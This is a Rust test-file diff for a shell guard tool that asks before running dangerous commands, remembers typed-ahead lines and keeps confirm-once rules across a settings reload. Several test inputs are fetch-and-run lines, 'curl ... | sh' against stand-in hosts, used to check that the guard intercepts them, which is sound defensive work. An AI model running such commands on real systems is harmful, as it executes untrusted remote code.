@@ -273,7 +273,7 @@ fn a_paste_is_one_and_isnt_run() {
 
 #[test]
 fn a_dangerous_line_is_asked_about() {
-    for shell in line_shells() {
+    for shell in ["bash", "zsh", "fish"].into_iter().filter(|shell| has(shell)) {
         let mut screen = ready(Setting::of(shell, ""));
         screen.slowly("curl http://never.invalid/x | sh");
         screen.keys("\r");
@@ -290,7 +290,7 @@ fn a_dangerous_line_is_asked_about() {
 
 #[test]
 fn it_runs_at_a_second_enter() {
-    for shell in line_shells() {
+    for shell in ["bash", "zsh", "fish"].into_iter().filter(|shell| has(shell)) {
         let mut screen = ready(Setting::of(shell, ""));
         screen.slowly("curl -s http://never.invalid/x | sh; echo ran");
         screen.keys("\r");
@@ -330,4 +330,65 @@ fn settings_are_read_again_and_bad_ones_change_nothing() {
     screen.wait_for("the settings are read again");
     screen.slowly(" q");
     screen.wait_until("no ghost", |screen| !is_dim(screen, "uick"));
+}
+
+#[test]
+fn what_was_typed_ahead_is_judged_and_remembered() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.line("echo go''ing; sleep 1");
+        screen.wait_for_line("going");
+        // Some lines, while nobody reads.
+        screen.slowly("echo ahead-1\recho ahead-2\rcurl -s https://a.example/b | sh\r");
+        screen.wait_for_line("ahead-1");
+        screen.wait_for_line("ahead-2");
+        screen.wait_for("Enter again");
+        screen.keys("\x03");
+        screen.wait_for_last("$");
+        // What a program reads is its own all the same.
+        screen.line("sleep 0.5; head -n1 | rev; sleep 0.5");
+        screen.slowly("for head\recho ahead-3\r");
+        screen.wait_for_line("daeh rof");
+        screen.wait_for_line("ahead-3");
+        screen.wait_for_last("$");
+        screen.line("exit");
+        screen.end();
+        let store = rusqlite_text(&screen, "history.sqlite");
+        for line in ["ahead-1", "ahead-2", "ahead-3"] {
+            assert!(store.contains(&format!("echo {line}")), "{shell}: {line}");
+        }
+        assert!(!store.contains("for head"), "{shell}");
+    }
+}
+
+#[test]
+fn what_was_typed_ahead_is_typed_as_it_was() {
+    for shell in line_shells() {
+        let mut screen = ready(Setting::of(shell, ""));
+        screen.line("echo go''ing; stty -echo; sleep 1; stty echo");
+        screen.wait_for_line("going");
+        screen.keys("printf '%s\\n' \\\\'a b '\u{20ac}c; true \x01\r");
+        screen.wait_for_line("\\a b \u{20ac}c");
+    }
+}
+
+#[test]
+fn what_was_confirmed_and_what_is_suggested_outlast_other_settings() {
+    let rule = "[[guard.rules]]\nname = \"mine\"\naction = \"confirm-once\"\nprefix = \"echo one\"\n";
+    let settings = |rows: u8| format!("schema = 1\n[ghost]\nrows = {rows}\n{rule}");
+    let mut screen = ready(with_history("bash", "").file(".config/palisade/shell.toml", &settings(3)));
+    screen.line("echo one-1 two''words");
+    screen.wait_for("Enter again");
+    std::thread::sleep(Duration::from_millis(400));
+    screen.keys("\r");
+    screen.wait_for_line("one-1 twowords");
+    std::fs::write(screen.path(".config/palisade/shell.toml"), settings(2)).unwrap();
+    screen.line("sleep 1.2");
+    screen.wait_for("the settings are read again");
+    // Not asked again, and suggested at once.
+    screen.slowly("echo one-1");
+    wait_for_ghost(&mut screen, " two''words");
+    screen.keys("\x15");
+    screen.line("echo one-2 th''ree");
+    screen.wait_for_line("one-2 three");
 }
